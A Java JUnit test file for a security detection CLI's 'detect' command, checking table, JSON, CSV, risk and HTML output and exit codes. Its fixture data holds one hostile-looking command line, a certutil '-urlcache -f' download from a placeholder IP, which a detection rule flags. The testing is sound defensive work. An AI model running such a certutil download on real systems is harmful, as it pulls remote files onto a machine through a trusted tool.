package karst.cli;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;
import java.util.stream.Stream;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

class DetectCommandTest {
  private static final String SAMPLE = "src/test/resources/content";

  @TempDir Path folder;

  private static Outcome detect(String data, String... more) {
    List<String> start =
        List.of(
            "detect",
            "--content",
            SAMPLE,
            "--table",
            "Endpoint.Processes=" + SAMPLE + "/data/" + data);
    return Outcome.of(Stream.concat(start.stream(), Stream.of(more)).toArray(String[]::new));
  }

  private static String withoutTime(String out) {
    return out.replaceAll("\\d+ ms", "N ms")
        .replaceAll("\"milliseconds\":\\d+", "\"milliseconds\":0");
  }

  @Test
  void findingsAreATableWithASummary() {
    Outcome outcome = detect("processes.csv", "--filter", "technique=T1105");
    assertEquals(0, outcome.exit(), outcome.err());
    assertEquals(
        """
        +-------+----------------------------+----------------------+----------------------------+----------------------------+
        | score | detection                  | time                 | entities                   | message                    |
        +-------+----------------------------+----------------------+----------------------------+----------------------------+
        |    48 | Certificate Tool Fetches   | 2023-11-15T00:13:20Z | dest=pc03                  | eve fetched a file on pc03 |
        |       | File                       |                      | process=certutil.exe       | with $missing$             |
        |       |                            |                      | -urlcache -f               |                            |
        |       |                            |                      | http://192.0.2.1/a b       |                            |
        +-------+----------------------------+----------------------+----------------------------+----------------------------+
        1 detection: 1 fired with 1 finding, 0 silent, 0 not runnable, 0 failed; N ms
        """,
        withoutTime(outcome.out()));
  }

  @Test
  void ndjsonHasAnObjectForEachFinding() {
    Outcome outcome = detect("processes.csv", "--filter", "id=*7a02", "--format", "ndjson");
    assertEquals(
        """
        {"detection":"Certificate Tool Fetches File","id":"0b5f2a52-6f0e-4c56-9f6e-3c1f3c1d7a02","file":"detections/endpoint/certificate_tool_fetches_file.yml","techniques":["T1105"],"stories":["Tools Of The System"],"first_time":"2023-11-15T00:13:20Z","last_time":"2023-11-15T00:13:20Z","risk_score":48,"risk_message":"eve fetched a file on pc03 with $missing$","entities":[{"field":"dest","type":"Hostname","role":"risk","score":48,"values":["pc03"]},{"field":"process","type":"Process","role":"threat","score":0,"values":["certutil.exe -urlcache -f http://192.0.2.1/a b"]}],"row":{"_time":1700007200,"dest":"pc03","user":"eve","process":"certutil.exe -urlcache -f http://192.0.2.1/a b","count":1}}
        """,
        outcome.out());
    assertEquals(3, detect("processes.csv", "--format", "ndjson").out().lines().count());
  }

  @Test
  void jsonHasTheStateOfEachDetection() {
    Outcome outcome =
        detect(
            "quiet.csv", "--filter", "name=*shell", "--filter", "name=badge*", "--format", "json");
    assertEquals(
        """
        {"detections":2,"fired":0,"silent":1,"not_runnable":1,"failed":0,"milliseconds":0,"results":[
        {"file":"detections/endpoint/office_starts_shell.yml","name":"Office Starts A Shell","id":"0b5f2a52-6f0e-4c56-9f6e-3c1f3c1d7a01","techniques":["T1566.001","T1059"],"stories":["Documents With Macros"],"state":"silent","reasons":[],"rows":0,"milliseconds":0,"findings":[]}
        ,{"file":"detections/network/badge_at_night.yml","name":"Badge At Night","id":"0b5f2a52-6f0e-4c56-9f6e-3c1f3c1d7a04","techniques":[],"stories":["Doors"],"state":"not_runnable","reasons":["no table is bound to the dataset `Building.Doors`"],"rows":0,"milliseconds":0,"findings":[]}
        ]}
        """,
        withoutTime(outcome.out()));
  }

  @Test
  void csvHasARecordForEachFinding() {
    String out = detect("processes.csv", "--filter", "id=*7a02", "--format", "csv").out();
    assertTrue(
        out.startsWith(
            "detection,id,file,first_time,last_time,risk_score,risk_message,entities,techniques,"
                + "stories,row\nCertificate Tool Fetches File,"),
        out);
    assertTrue(out.contains("\"dest=pc03\nprocess=certutil.exe"), out);
  }

  @Test
  void findingsAreEventsForCorrelationSearches() throws IOException {
    Path risk = folder.resolve("risk.csv");
    assertEquals(
        0, detect("processes.csv", "--format", "risk", "--output", risk.toString()).exit());
    assertEquals(
        """
        All_Risk.risk_object,score,sources
        ada,40,1
        bob,40,1
        pc01,56,1
        pc02,56,1
        pc03,48,1
        """,
        Outcome.of(
                "run",
                "-e",
                "| tstats sum(All_Risk.calculated_risk_score) as score dc(source) as sources"
                    + " from datamodel=Risk.All_Risk by All_Risk.risk_object",
                "--table",
                "Risk.All_Risk=" + risk,
                "--format",
                "csv")
            .out());
  }

  @Test
  void aReportIsWrittenToAFile() throws IOException {
    Path page = folder.resolve("report.html");
    assertEquals(
        new Outcome(0, "", ""),
        detect("processes.csv", "--format", "html", "--output", page.toString()));
    assertTrue(Files.readString(page).startsWith("<!DOCTYPE html>"));
  }

  @Test
  void theExitCodeTellsWhatOneAsksFor() {
    assertEquals(1, detect("processes.csv", "--fail-on", "fired").exit());
    assertEquals(0, detect("quiet.csv", "--fail-on", "fired").exit());
    assertEquals(0, detect("processes.csv", "--fail-on", "error").exit());
  }

  @Test
  void aWrongFilterIsWrongUsage() {
    Outcome outcome = detect("quiet.csv", "--filter", "tecnique=T1105");
    assertEquals(2, outcome.exit());
    assertTrue(outcome.err().contains("did you mean `technique`?"), outcome.err());
  }

  @Test
  void recordsThatCannotBeReadAreCountedWithTheirPlaces() throws IOException {
    Path content = Files.createDirectories(folder.resolve("content/detections"));
    Files.writeString(content.resolve("a.yml"), "name: A\nsearch: a=1 | table a\n");
    Files.writeString(content.resolve("b.yml"), "name: B\nsearch: a=1 | table a\n");
    Path events =
        Files.writeString(folder.resolve("events.jsonl"), "{\"a\":1}\n{\"a\":\n{\"a\":2}\n");
    Outcome outcome =
        Outcome.of("detect", "--content", folder + "/content", "--events", events.toString());
    assertEquals(0, outcome.exit(), outcome.err());
    assertEquals(1, outcome.err().split("is left out", -1).length - 1, outcome.err());
    assertTrue(outcome.err().contains("events.jsonl` cannot be read and is left out (line 2"));
    assertFalse(outcome.out().contains("left out"), outcome.out());
  }
}
